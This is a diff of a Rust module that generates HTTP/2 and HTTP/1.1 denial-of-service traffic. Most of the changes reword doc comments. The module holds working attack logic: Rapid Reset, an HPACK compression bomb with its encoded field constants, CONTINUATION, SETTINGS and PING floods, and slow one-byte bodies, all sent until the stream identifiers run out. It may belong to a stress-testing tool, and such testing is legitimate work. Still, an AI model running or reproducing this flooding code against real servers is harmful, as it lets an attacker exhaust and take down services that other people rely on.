@@ -1,5 +1,5 @@
-//! What each attack sends: how its connections begin, and what they go on with for as long as they
-//! are left alive.
+//! The bytes that each attack sends: the opening of a connection, and the frames repeated until it
+//! is closed.
 
 use std::net::SocketAddr;
 
@@ -13,14 +13,13 @@ use super::{
     flow_control::FlowControl,
 };
 
-/// As much as a proxy may read at a time.
+/// The largest read of a proxy.
 const WRITE: usize = 256 * 1024;
-/// Almost the whole dynamic table of 4,096 bytes, with the 32 that an entry counts besides.
+/// With the overhead of 32 bytes per entry, almost the whole dynamic table of 4,096 bytes.
 const BOMB_VALUE: usize = 3_900;
-/// Fields that a block of the bomb has, each a byte.
+/// Indexed fields in a field block of the bomb, one byte each.
 const BOMB_FIELDS: usize = 4_000;
-/// A literal that is put into the dynamic table, with a name of one byte, and how its value's
-/// length is written.
+/// A literal with incremental indexing and a name of one byte, up to the length of its value.
 const BOMB_FIELD: [u8; 6] = [
     0x40,
     1,
@@ -29,48 +28,48 @@ const BOMB_FIELD: [u8; 6] = [
     0x80 | ((BOMB_VALUE - 0x7f) & 0x7f) as u8,
     ((BOMB_VALUE - 0x7f) >> 7) as u8,
 ];
-/// The newest entry of the dynamic table.
+/// The most recent entry of the dynamic table.
 const NEWEST: u8 = 0x80 | 62;
 /// `accept-encoding: gzip, deflate`, in the static table.
 const STATIC: u8 = 0x80 | 16;
-/// The last number that a stream of a client's can have.
+/// The highest stream identifier.
 const LAST_STREAM: u32 = u32::MAX >> 1;
 const CANCEL: [u8; 4] = [0, 0, 0, 8];
 
 #[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
 pub(super) enum AttackKind {
-    /// A request and an update of its window by nothing, over and over
+    /// Requests, each followed by a WINDOW_UPDATE with increment zero
     ZeroWindowUpdate,
-    /// A request that is complete and data behind its end, over and over
+    /// Complete requests, each followed by DATA on the half-closed stream
     HalfClosedData,
     /// Empty DATA frames on one open stream
     EmptyData,
-    /// Empty DATA frames that end a stream, on one that the receiver has reset
+    /// Empty DATA frames with END_STREAM on a stream that the receiver has reset
     ResetData,
-    /// Header blocks of thousands of bytes, each of which stands for a large field
+    /// Field blocks of thousands of bytes, each of which refers to a large field
     HpackBomb,
     /// An HTTP/1.1 body in chunks of one byte
     TinyChunks,
-    /// An HTTP/2 body in DATA frames of one byte, as far as windows admit it
+    /// An HTTP/2 body in DATA frames of one byte, within the windows
     TinyData,
-    /// A request and its cancellation, over and over
+    /// Requests that are cancelled immediately
     RapidReset,
-    /// A header block that goes on in frames of one byte
+    /// A field block in CONTINUATION frames of one byte
     Continuation,
-    /// SETTINGS, each of which has to be acknowledged
+    /// SETTINGS frames, which the receiver has to acknowledge
     SettingsFlood,
-    /// PING, each of which has to be answered
+    /// PING frames, which the receiver has to acknowledge
     PingFlood,
 }
 
-/// What one connection sends.
+/// Generates the bytes of one connection.
 pub(super) struct Attack {
     kind: AttackKind,
     authority: String,
-    /// Header blocks of requests without and with a body.
+    /// Field blocks of requests without and with a body.
     get: Vec<u8>,
     post: Vec<u8>,
-    /// The number of the next stream.
+    /// The next stream identifier.
     next: u32,
 }
 
@@ -96,7 +95,7 @@ impl Attack {
         }
     }
 
-    /// What the connection begins with.
+    /// Returns the opening of the connection.
     pub(super) fn opening(&self) -> Vec<u8> {
         if !self.kind.is_http2() {
             let authority = &self.authority;
@@ -111,20 +110,21 @@ impl Attack {
         bytes
     }
 
-    /// Appends what comes next, as much as one write takes, or less where windows are closed.
-    /// Returns how many streams it opens.
+    /// Appends the bytes of one write, or fewer if windows are exhausted. Returns the number of
+    /// opened streams.
     pub(super) fn fill(&mut self, bytes: &mut Vec<u8>, flow_control: &mut FlowControl) -> u64 {
         let first = self.next;
-        while bytes.len() < WRITE && !self.is_over() && self.append_unit(bytes, flow_control) {}
+        while bytes.len() < WRITE && !self.is_exhausted() && self.append_unit(bytes, flow_control) {
+        }
         u64::from(self.next - first) / 2
     }
 
-    /// Whether the connection has no numbers left for streams.
-    pub(super) fn is_over(&self) -> bool {
+    /// Returns whether stream identifiers are exhausted.
+    pub(super) fn is_exhausted(&self) -> bool {
         self.next >= LAST_STREAM
     }
 
-    /// Appends the smallest piece of the attack; whether there was one.
+    /// Appends one unit of the attack; returns `false` if windows are exhausted.
     fn append_unit(&mut self, bytes: &mut Vec<u8>, flow_control: &mut FlowControl) -> bool {
         match self.kind {
             AttackKind::ZeroWindowUpdate => {
@@ -173,7 +173,7 @@ impl Attack {
         true
     }
 
-    /// The first request of the bomb, which puts its field into the table.
+    /// Appends the first request of the bomb, which inserts its field into the dynamic table.
     fn first_bomb_request(&mut self, bytes: &mut Vec<u8>) {
         let stream = self.stream();
         let mut block = request(GET, &self.authority);
@@ -182,21 +182,21 @@ impl Attack {
         frame(bytes, HEADERS, END_STREAM | END_HEADERS, stream, &block);
     }
 
-    /// A whole request.
+    /// Appends a complete request.
     fn get(&mut self, bytes: &mut Vec<u8>) -> u32 {
         let stream = self.stream();
         frame(bytes, HEADERS, END_STREAM | END_HEADERS, stream, &self.get);
         stream
     }
 
-    /// A request whose body follows.
+    /// Appends the headers of a request with a body.
     fn post(&mut self, bytes: &mut Vec<u8>) -> u32 {
         let stream = self.stream();
         frame(bytes, HEADERS, END_HEADERS, stream, &self.post);
         stream
     }
 
-    /// The request whose body is being sent; a new one when there is none any more.
+    /// Returns the stream that carries data; opens a new one if it was reset.
     fn body(&mut self, bytes: &mut Vec<u8>, flow_control: &mut FlowControl) -> u32 {
         if let Some(stream) = flow_control.stream() {
             return stream;
